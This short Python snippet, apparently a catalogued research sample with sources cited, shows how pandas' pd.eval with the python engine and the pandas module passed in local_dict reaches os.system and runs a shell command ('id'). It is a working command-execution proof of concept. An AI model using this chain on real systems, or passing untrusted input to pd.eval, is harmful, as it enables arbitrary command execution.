# Source: https://checkmarx.com/zero-post/glass-sandbox-complexity-of-python-sandboxing (pandas.eval); https://github.com/pandas-dev/pandas/pull/59108
# Family: data-is-code
# What: top-level pd.eval with a local_dict holding the pandas module
import pandas as pd

pd.eval("m.io.common.os.system('id')", local_dict={"m": pd}, engine="python")
